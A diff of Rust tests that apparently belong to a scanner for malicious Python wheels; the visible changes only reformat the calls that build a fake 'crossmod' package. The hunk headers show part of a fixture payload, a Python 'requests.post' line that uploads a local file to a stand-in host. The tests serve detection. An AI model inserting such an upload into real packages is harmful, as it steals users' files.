@@ -375,7 +375,10 @@ requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
         &b"from .m import *\ninitialize()\n"[..],
         &b"from .m import initialize\ninitialize()\n"[..],
     ] {
-        let a = wheel("crossmod", &[("crossmod/__init__.py", init), ("crossmod/m.py", payload)]);
+        let a = wheel(
+            "crossmod",
+            &[("crossmod/__init__.py", init), ("crossmod/m.py", payload)],
+        );
         let r = assay_rules::analyze_artifact(&a);
         assert!(
             r.findings.iter().any(|f| f.rule.code == "PY008"
@@ -387,7 +390,10 @@ requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
     // Imported but not called at import time: stays runtime.
     let a = wheel(
         "crossmod",
-        &[("crossmod/__init__.py", b"from .m import initialize\n"), ("crossmod/m.py", payload)],
+        &[
+            ("crossmod/__init__.py", b"from .m import initialize\n"),
+            ("crossmod/m.py", payload),
+        ],
     );
     let r = assay_rules::analyze_artifact(&a);
     assert!(
